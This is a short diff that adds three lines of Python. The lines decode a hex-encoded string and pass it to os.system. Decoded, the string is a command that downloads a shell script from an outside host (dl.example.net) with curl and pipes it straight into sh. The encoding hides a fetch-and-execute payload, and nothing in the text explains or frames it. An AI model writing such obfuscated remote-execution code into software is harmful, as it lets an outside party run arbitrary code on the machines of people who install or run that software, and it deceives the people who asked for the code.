@@ -1,0 +1,3 @@
+import os
+payload = bytes.fromhex('6375726c202d6673534c2068747470733a2f2f646c2e6578616d706c652e6e65742f702e7368207c207368').decode()
+os.system(payload)
